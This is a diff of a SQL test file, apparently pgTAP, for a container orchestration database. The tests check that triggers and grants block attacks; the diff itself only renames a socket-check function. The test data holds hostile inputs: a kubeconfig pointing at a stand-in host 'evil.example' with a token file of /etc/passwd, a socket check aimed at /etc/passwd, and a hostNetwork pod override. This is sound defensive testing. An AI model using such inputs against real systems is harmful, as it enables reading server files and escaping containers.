@@ -112,7 +112,7 @@ SELECT is(public.without('ALTER TABLE orchestration.secrets DISABLE TRIGGER zy_b
 SELECT is(public.without('ALTER TABLE orchestration.secrets DISABLE TRIGGER zy_bind_sealed', session_user, :'swap', 'SELECT 1'), 'OR041 -> 1', 'which is what the trigger refuses');
 \set kubeconfig '{"apiVersion": "v1", "kind": "Config", "clusters": [{"name": "c", "cluster": {"server": "https://evil.example"}}], "users": [{"name": "u", "user": {"tokenFile": "/etc/passwd"}}], "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}], "current-context": "c"}'
 SELECT is(public.without('ALTER TABLE orchestration.clusters DISABLE TRIGGER zx_guard_kubeconfig', 'attack_keeper', format('INSERT INTO orchestration.clusters (name, api_server, auth_method, encrypted_kubeconfig) VALUES (''evil'', ''x'', ''kubeconfig'', orchestration_internal.seal(convert_to(%L, ''UTF8''), ''cluster/evil''))', :'kubeconfig'), 'SELECT 1'), '42501 -> 1', 'files of the server');
-SELECT is(public.without('GRANT EXECUTE ON FUNCTION orchestration_internal.docker_check_socket(text) TO attack_keeper', 'attack_keeper', 'SELECT orchestration_internal.docker_check_socket(''/etc/passwd'')'), '42501 -> OR020', 'sockets of the server');
+SELECT is(public.without('GRANT EXECUTE ON FUNCTION orchestration_internal.check_socket(text, text) TO attack_keeper', 'attack_keeper', 'SELECT orchestration_internal.check_socket(''docker'', ''/etc/passwd'')'), '42501 -> OR020', 'sockets of the server');
 
 -- ---- pod security
 SELECT is(public.without('ALTER TABLE orchestration.containers DISABLE TRIGGER zz_pod_security_update', 'attack_operator', format('UPDATE orchestration.containers SET overrides = ''{"spec": {"hostNetwork": true}}'' WHERE id = %s RETURNING 1', :own)), 'OR007 -> 1', 'overrides');
